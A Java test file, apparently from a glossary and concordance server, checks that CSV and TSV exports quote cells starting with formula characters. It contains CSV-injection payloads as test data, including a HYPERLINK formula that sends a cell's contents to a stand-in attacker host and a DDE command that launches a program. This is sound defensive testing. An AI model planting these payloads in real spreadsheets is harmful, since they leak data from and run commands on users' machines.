package org.paraterm.web;

import static org.assertj.core.api.Assertions.assertThat;

import io.micronaut.context.ApplicationContext;
import io.micronaut.runtime.server.EmbeddedServer;
import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.paraterm.TestServer;
import org.paraterm.concordance.ConcordanceIndex;
import org.paraterm.corpus.CorpusLoader;
import org.paraterm.glossary.Csv;
import org.paraterm.glossary.Entry;
import org.paraterm.glossary.EntryStatus;
import org.paraterm.glossary.GlossaryStore;
import org.paraterm.glossary.Term;
import org.paraterm.glossary.TermType;
import org.paraterm.glossary.UsageStatus;

/**
 * The CSV and TSV files the server hands out open safely in a spreadsheet: a cell that would start
 * a formula ({@code =}, {@code +}, {@code -}, {@code @}) comes with a single quote in front, and a
 * glossary CSV read back gives every text as it was.
 */
class SpreadsheetSafeExportTest {

    /** The classic: a link that sends the cell beside it to another site when clicked. */
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private static final List<String> FORMULA_STARTS = List.of("=", "+", "-", "@", "\t", "\r");

    @TempDir
    static Path temp;

    private static EmbeddedServer server;
    private static final HttpClient CLIENT = HttpClient.newHttpClient();

    @BeforeAll
    static void start() throws Exception {
        server = TestServer.in(temp).withStarterGlossary().start();
        ApplicationContext context = server.getApplicationContext();
        context.getBean(GlossaryStore.class).createAll(List.of(
                entry("=cmd|' /C calc'!A0", Term.of("en", HYPERLINK, TermType.FULL_FORM, UsageStatus.PREFERRED),
                        Term.of("zh", "超链接公式", TermType.FULL_FORM, UsageStatus.PREFERRED)),
                entry("crime", Term.of("zh", "+1 加号开头", TermType.FULL_FORM, UsageStatus.PREFERRED),
                        Term.of("en", "-minus first", TermType.VARIANT, UsageStatus.ADMITTED),
                        Term.of("en", "@SUM(1+1)", TermType.VARIANT, UsageStatus.ADMITTED),
                        Term.of("en", "'=already quoted", TermType.VARIANT, UsageStatus.ADMITTED))),
                "test", "hostile cells");
        Path folder = Files.createDirectories(temp.resolve("hostile"));
        Files.writeString(folder.resolve("@evil.txt"), hostileDocument(), StandardCharsets.UTF_8);
        assertThat(context.getBean(CorpusLoader.class).load(folder, (done, total, result) -> { }))
                .allSatisfy(result -> assertThat(result.refused()).as(String.valueOf(result.refusal())).isFalse());
        context.getBean(ConcordanceIndex.class).synchronize();
    }

    /** Paragraphs that begin with each formula character, each holding 洗钱 a little later. */
    static String hostileDocument() {
        return String.join("\n\n", " 关于洗钱问题的说明。",
                " " + HYPERLINK + "洗钱罪的证据链接见上文。",
                " +1 打击洗钱行为需要各国合作。",
                " -2 洗钱收益应当没收。",
                " @SUM(1+1) 报告了洗钱案件。") + "\n";
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    @Test
    void shouldQuoteEveryGlossaryCellThatWouldStartAFormulaForAnonymousVisitors() throws Exception {
        HttpResponse<String> csv = get("/glossary.csv");

        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.body()).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
                "\"'=cmd|' /C calc'!A0\"", "\"'+1 加号开头\"", "\"'-minus first\"", "\"'@SUM(1+1)\"",
                "\"''=already quoted\"");
        assertThat(cells(csv.body(), ',')).isNotEmpty().allSatisfy(SpreadsheetSafeExportTest::assertNoFormula);
    }

    @Test
    void shouldReadTheGlossaryCsvBackWithEveryTextAsItWas() throws Exception {
        byte[] csv = get("/glossary.csv").body().getBytes(StandardCharsets.UTF_8);

        List<Entry> read = Csv.read(new ByteArrayInputStream(csv), "paraterm-glossary.csv", EntryStatus.APPROVED, false);

        assertThat(read).flatExtracting(Entry::terms).extracting(Term::text)
                .contains(HYPERLINK, "+1 加号开头", "-minus first", "@SUM(1+1)", "'=already quoted", "外国恐怖主义作战人员");
        assertThat(read).extracting(Entry::subject).contains("=cmd|' /C calc'!A0", "crime");
    }

    @Test
    void shouldQuoteEveryConcordanceCellThatWouldStartAFormulaInCsvAndTsv() throws Exception {
        String query = "?q=" + URLEncoder.encode("洗钱", StandardCharsets.UTF_8) + "&context=60";
        HttpResponse<String> csv = get("/concordance.csv" + query);
        HttpResponse<String> tsv = get("/concordance.tsv" + query);

        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(tsv.statusCode()).isEqualTo(200);
        // the left context of each paragraph starts with its formula character; the symbol cell is
        // the file name, since the document has no symbol
        assertThat(csv.body()).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
                "\"'+1", "\"'-2", "\"'@SUM(1+1)", "\"'@evil.txt\"");
        assertThat(tsv.body()).contains("\t'" + HYPERLINK + "\t", "\t'+1", "\t'-2", "\t'@SUM(1+1)", "\t'@evil.txt\t");
        assertThat(cells(csv.body(), ',')).hasSizeGreaterThan(6 * 5).allSatisfy(SpreadsheetSafeExportTest::assertNoFormula);
        assertThat(cells(tsv.body(), '\t')).hasSizeGreaterThan(6 * 5).allSatisfy(SpreadsheetSafeExportTest::assertNoFormula);
    }

    static void assertNoFormula(String cell) {
        assertThat(FORMULA_STARTS).as(cell).noneMatch(cell::startsWith);
    }

    /** Every cell of a CSV (RFC 4180 quoting) or TSV (none) text, unquoted. */
    static List<String> cells(String text, char separator) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"' && separator == ',' && cell.length() == 0) {
                quoted = true;
            } else if (c == separator || c == '\n') {
                cells.add(cell.toString());
                cell.setLength(0);
            } else if (c != '\r') {
                cell.append(c);
            }
        }
        return cells;
    }

    private static Entry entry(String subject, Term... terms) {
        return new Entry(0, subject, null, null, null, EntryStatus.APPROVED, null, true, List.of(terms), List.of(),
                null, null, null, null, 0);
    }

    private static HttpResponse<String> get(String path) throws Exception {
        return CLIENT.send(HttpRequest.newBuilder(URI.create("http://localhost:" + server.getPort() + path)).build(),
                HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    }
}
